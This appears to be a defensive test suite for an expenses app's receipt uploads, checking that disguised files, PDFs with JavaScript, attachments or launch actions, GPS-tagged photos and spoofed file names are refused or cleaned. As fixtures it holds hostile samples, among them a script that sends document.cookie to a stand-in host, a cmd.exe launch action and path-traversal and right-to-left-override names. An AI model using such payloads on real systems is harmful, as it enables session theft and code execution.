// Hostile receipts: files that pretend to be PDFs, PDFs that carry code or attachments, and photos that carry the
// place they were taken — each refused or cleaned before it is stored, with a file name that cannot mislead.
import piexif from 'piexifjs';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { safeReceiptFileName } from '../../src-main/core/expenses/receipt-files';
import { bus, claimWith, makeWorld, PDF_TEXT, type World } from './expenses-fixtures';

let w: World;
let lineId: number;
beforeEach(async () => {
  w = await makeWorld();
  const id = await claimWith(w, w.valId, [bus('2026-10-05', '2.00')]);
  lineId = (await w.t.ok(w.admin, 'expenses.claims.get', { id })).lines[0].id;
});
afterEach(() => w.t.close());

const attach = (bytes: Buffer, fileName = 'receipt.pdf') => w.t.core.call(w.admin, 'expenses.receipts.add', { lineId, fileName, base64: bytes.toString('base64') });
const storedReceipts = () => w.t.core.database.db.selectFrom('claim_receipts').select(['file_name', 'mime_type', 'content']).execute();

async function expectRefused(bytes: Buffer, message: RegExp) {
  const r = await attach(bytes);
  expect(r.ok).toBe(false);
  if (!r.ok) expect(r.error).toMatchObject({ code: 'VALIDATION', message: expect.stringMatching(message) });
  expect(await storedReceipts()).toEqual([]);
}

/** A one-page PDF with something extra set on its catalog, written by pdf-lib (optionally into compressed object streams). */
async function pdfWith(extra: (doc: PDFDocument) => void, useObjectStreams = false): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([200, 100]);
  extra(doc);
  return Buffer.from(await doc.save({ useObjectStreams }));
}

describe('files that are not what they claim', () => {
  it('refuses an HTML page that has “%PDF-” in its first kilobyte', async () => {
    const html = Buffer.from(`<!doctype html><html><head><title>receipt</title></head><body><!-- %PDF-1.4 --><script>alert(document.cookie)</script></body></html>`);
    await expectRefused(html, /PNG, JPEG or WebP\) or a PDF/);
  });

  it('refuses a Windows program with “%PDF-” in its first kilobyte', async () => {
    const exe = Buffer.alloc(2048);
    exe.write('MZ', 0, 'latin1');
    exe.writeUInt32LE(0x80, 0x3c); // e_lfanew: where the PE header starts
    exe.write('PE\0\0', 0x80, 'latin1');
    exe.write('%PDF-1.7', 0x200, 'latin1');
    await expectRefused(exe, /PNG, JPEG or WebP\) or a PDF/);
  });

  it('refuses a file that starts like a PNG but is not a picture', async () => {
    await expectRefused(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(64, 1)]), /could not be read|PNG, JPEG/);
  });

  it('keeps a PDF/HTML polyglot only as a re-written PDF, with none of its HTML left', async () => {
    const polyglot = Buffer.from(`${PDF_TEXT}<html><body><script>fetch('https://example.invalid/?'+document.cookie)</script></body></html>\n`);
    const r = await attach(polyglot);
    expect(r.ok).toBe(true);
    const [stored] = await storedReceipts();
    const bytes = Buffer.from(stored.content);
    expect(stored.mime_type).toBe('application/pdf');
    expect(bytes.toString('latin1')).not.toMatch(/<html|<script/i);
    expect((await PDFDocument.load(bytes)).getPageCount()).toBe(1);
  });
});

describe('PDFs that carry code, attachments or actions', () => {
  it('refuses JavaScript run on opening, even with its name disguised by #-escapes', async () => {
    const js = Buffer.from(
      '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
        '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]>>endobj\n4 0 obj<</S/J#61vaScript/J#53(app.alert(1))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
    );
    await expectRefused(js, /programme code, attached files or automatic actions/);
  });

  it('refuses JavaScript hidden in a compressed object stream', async () => {
    const pdf = await pdfWith((doc) => {
      const action = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("https://example.invalid")') });
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
    }, true);
    expect(pdf.toString('latin1')).not.toContain('JavaScript'); // compressed: a byte search would miss it
    await expectRefused(pdf, /programme code/);
  });

  it('refuses a PDF with an embedded file', async () => {
    const pdf = await (async () => {
      const doc = await PDFDocument.create();
      doc.addPage([200, 100]);
      await doc.attach(Buffer.from('MZ pretend program'), 'invoice.exe', { mimeType: 'application/octet-stream' });
      return Buffer.from(await doc.save());
    })();
    await expectRefused(pdf, /attached files/);
  });

  it('refuses a page that launches a program when it is opened', async () => {
    const pdf = await pdfWith((doc) => {
      const launch = doc.context.obj({ S: 'Launch', F: PDFString.of('C:\\Windows\\System32\\cmd.exe') });
      doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: launch }));
    });
    await expectRefused(pdf, /automatic actions/);
  });

  it('keeps an ordinary PDF', async () => {
    const pdf = await pdfWith((doc) => doc.setTitle('Bus ticket'));
    expect((await attach(pdf, 'ticket.pdf')).ok).toBe(true);
    const [stored] = await storedReceipts();
    expect(stored).toMatchObject({ file_name: 'ticket.pdf', mime_type: 'application/pdf' });
  });
});

describe('photos', () => {
  it('stores a GPS-tagged JPEG re-encoded, with no GPS position or other EXIF left', async () => {
    const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 200, g: 180, b: 150 } } }).jpeg().toBuffer();
    const exif = piexif.dump({
      '0th': { [piexif.ImageIFD.Make]: 'PhonePlc', [piexif.ImageIFD.Model]: 'Pocket 12' },
      GPS: {
        [piexif.GPSIFD.GPSLatitudeRef]: 'N',
        [piexif.GPSIFD.GPSLatitude]: [
          [51, 1],
          [32, 1],
          [4512, 100],
        ],
        [piexif.GPSIFD.GPSLongitudeRef]: 'E',
        [piexif.GPSIFD.GPSLongitude]: [
          [0, 1],
          [42, 1],
          [3012, 100],
        ],
      },
    });
    const tagged = Buffer.from(piexif.insert(exif, jpeg.toString('binary')), 'binary');
    expect(Object.keys(piexif.load(tagged.toString('binary')).GPS ?? {}).length).toBeGreaterThan(0); // the test photo really has a position

    const r = await attach(tagged, 'IMG_2041.JPG');
    expect(r.ok).toBe(true);
    const [stored] = await storedReceipts();
    const bytes = Buffer.from(stored.content);
    expect(stored).toMatchObject({ file_name: 'IMG_2041.jpg', mime_type: 'image/jpeg' });
    const meta = await sharp(bytes).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 64, height: 48 });
    expect(meta.exif).toBeUndefined();
    expect(bytes.toString('latin1')).not.toMatch(/Exif|PhonePlc|Pocket 12/);
    expect(piexif.load(bytes.toString('binary')).GPS ?? {}).toEqual({});
  });

  it('turns a photo upright before its orientation tag is removed', async () => {
    const wide = await sharp({ create: { width: 60, height: 20, channels: 3, background: '#888' } })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .toBuffer();
    expect((await attach(wide, 'sideways.jpg')).ok).toBe(true);
    const [stored] = await storedReceipts();
    expect(await sharp(Buffer.from(stored.content)).metadata()).toMatchObject({ width: 20, height: 60 });
  });
});

describe('file names', () => {
  it('keeps only a plain name with the extension of what the file really is', () => {
    expect(safeReceiptFileName('C:\\Users\\pat\\Desktop\\bus ticket.png', 'image/jpeg')).toBe('bus ticket.jpg');
    expect(safeReceiptFileName('../../etc/passwd', 'application/pdf')).toBe('passwd.pdf');
    expect(safeReceiptFileName('invoice\u202Efdp.exe', 'application/pdf')).toBe('invoicefdp.pdf');
    expect(safeReceiptFileName('a<b>c:"d|e?*.pdf', 'application/pdf')).toBe('abcde.pdf');
    expect(safeReceiptFileName('...', 'image/png')).toBe('receipt.png');
    expect(safeReceiptFileName('CON.png', 'image/png')).toBe('receipt.png');
    expect(safeReceiptFileName('x'.repeat(300), 'image/png')).toBe(`${'x'.repeat(100)}.png`);
  });
});
